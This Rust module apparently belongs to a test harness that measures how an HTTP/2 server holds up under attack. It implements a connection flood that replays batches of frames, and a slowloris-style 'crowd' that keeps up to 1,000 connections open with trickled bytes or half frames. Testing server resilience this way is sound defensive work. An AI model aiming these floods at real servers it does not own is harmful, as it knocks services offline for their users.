//! What attackers say, over and over, and on a new connection when the server has had enough.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use super::{Done, connect};
use crate::Result;
use crate::attack::{Attack, PATH};
use crate::raw::*;

/// Connections of those attacks that live by their number.
const MANY: usize = 1_000;

/// Attacks until it is over.
pub(super) fn run(attack: Attack, address: &str, over: &dyn Fn() -> bool) -> Result<Done> {
    match attack.is_slow() {
        true => crowd(attack, address, over),
        false => flood(attack, address, over),
    }
}

/// One connection after the other, each as fast as the server takes it.
fn flood(attack: Attack, address: &str, over: &dyn Fn() -> bool) -> Result<Done> {
    let mut done = Done::default();
    // The same bytes for each connection: the attacker's own work is not what is to be measured.
    let mut batches = Vec::new();
    let mut heard = vec![0; 256 * 1024];
    while !over() {
        let Ok(mut stream) = greeted(address) else {
            continue;
        };
        done.connections += 1;
        let mut at = 0;
        while !over() {
            if batches.len() == at {
                batches.push(attack.batch(at as u32));
            }
            if !say(&mut stream, &batches[at], &mut heard, attack.reads(), over) {
                break;
            }
            at += 1;
            // Stream ids go up to 2³¹, and memory does not.
            if at == 400 {
                break;
            }
        }
    }
    Ok(done)
}

fn greeted(address: &str) -> std::io::Result<TcpStream> {
    let mut stream = connect(address)?;
    stream.write_all(PREFACE)?;
    stream.write_all(&settings(&[]))?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// Writes all, and takes what comes meanwhile; `false` when the server has hung up.
#[allow(clippy::disallowed_methods, reason = "a process without a runtime")]
fn say(
    stream: &mut TcpStream,
    mut bytes: &[u8],
    heard: &mut [u8],
    reads: bool,
    over: &dyn Fn() -> bool,
) -> bool {
    while !bytes.is_empty() && !over() {
        match stream.write(bytes) {
            Ok(count) => bytes = &bytes[count..],
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_micros(100))
            }
            Err(_) => return false,
        }
        if reads {
            match stream.read(heard) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => return false,
            }
        }
    }
    true
}

/// Many connections, each of which says a byte now and then, or half a frame once.
#[allow(clippy::disallowed_methods, reason = "a process without a runtime")]
fn crowd(attack: Attack, address: &str, over: &dyn Fn() -> bool) -> Result<Done> {
    let mut done = Done::default();
    let whole = data(1, 0, &[7; 10_000]);
    let mut streams: Vec<(TcpStream, usize)> = Vec::new();
    while !over() {
        while streams.len() < MANY && !over() {
            let Ok(mut stream) = greeted(address) else { break };
            done.connections += 1;
            let half = [headers(1, END_HEADERS, &request(PATH)), whole[..100].to_vec()].concat();
            let _ = stream.write_all(&half);
            streams.push((stream, 100));
        }
        streams.retain_mut(|(stream, said)| {
            if attack == Attack::Halves {
                return true;
            }
            let byte = &whole[*said % whole.len()..][..1];
            *said += 1;
            match stream.write_all(byte) {
                Ok(()) => true,
                Err(error) => error.kind() == ErrorKind::WouldBlock,
            }
        });
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok(done)
}
